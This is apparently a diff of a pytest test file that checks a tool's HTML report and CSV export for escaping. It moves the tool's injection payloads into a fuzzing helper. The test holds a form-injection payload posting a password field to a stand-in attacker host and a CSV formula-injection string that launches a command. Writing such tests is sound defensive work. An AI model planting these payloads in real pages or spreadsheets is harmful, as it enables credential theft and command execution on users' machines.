@@ -78,37 +78,27 @@ def test_an_edited_monitor_database_is_read_or_refused_in_one_line(valid_db, tmp
     check_outcome(*db_case(valid_db, tmp_path, data))
 
 
-PAYLOADS = ('<form action="https://evil.example/"><input name=pw></form>', "=cmd|' /C calc'!A0")
 
-
-@pytest.mark.xfail(reason="issue 22 items 11-12 (HTML escaping, CSV formula neutralising) are "
-                   "another branch's: remove this mark once merged", strict=False)
-def test_payloads_in_free_text_reach_no_page_or_spreadsheet_raw(valid_folder, tmp_path):
+@pytest.mark.xfail(reason="issue 22 item 12 (CSV formula neutralising) is another branch's: "
+                   "remove this mark, and set fuzzing.CHECK_CSV_FORMULAS, once merged",
+                   strict=False)
+def test_payloads_in_free_text_reach_no_page_or_spreadsheet_raw(valid_folder, tmp_path,
+                                                                 monkeypatch):
     """The words of events are refused when unknown (test_validation.py); what is free text
     (names, versions, reasons) must come out escaped in HTML and neutralised in CSV."""
     import json
 
+    import fuzzing
+
+    monkeypatch.setattr(fuzzing, "CHECK_CSV_FORMULAS", True)
     folder = fresh_copy(valid_folder, tmp_path / "in" / "visit.spasm-cv")
     doc = json.loads((folder / "summary.json").read_text())
+    payloads = (fuzzing.MARKUP[0], "=cmd|' /C calc'!A0")
     for i, (record, key) in enumerate([("input", "name"), ("input", "codec"),
                                        ("software", "version"), ("model", "name")]):
-        doc[record][key] = PAYLOADS[i % 2]
-    doc["interrupted"] = PAYLOADS[0]
+        doc[record][key] = payloads[i % 2]
+    doc["interrupted"] = payloads[0]
     (folder / "summary.json").write_text(json.dumps(doc))
-    assert run_folder_command(("report",), folder, tmp_path / "o")[0] == 0
-    assert run_folder_command(("export", "csv"), folder, tmp_path / "o")[0] == 0
-    assert PAYLOADS[0] not in (tmp_path / "o" / "report.html").read_text()
-    for table in (tmp_path / "o" / "csv").glob("*.csv"):
-        import csv
-
-        with open(table, newline="") as f:
-            cells = [c for row in csv.reader(f) for c in row]
-        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@") and not _number(c)]
-
-
-def _number(text: str) -> bool:
-    try:
-        float(text)
-    except ValueError:
-        return False
-    return True
+    for command in (("report",), ("export", "csv")):
+        assert run_folder_command(command, folder, tmp_path / "o")[0] == 0
+    assert fuzzing.payload_leaks(tmp_path / "o") == []
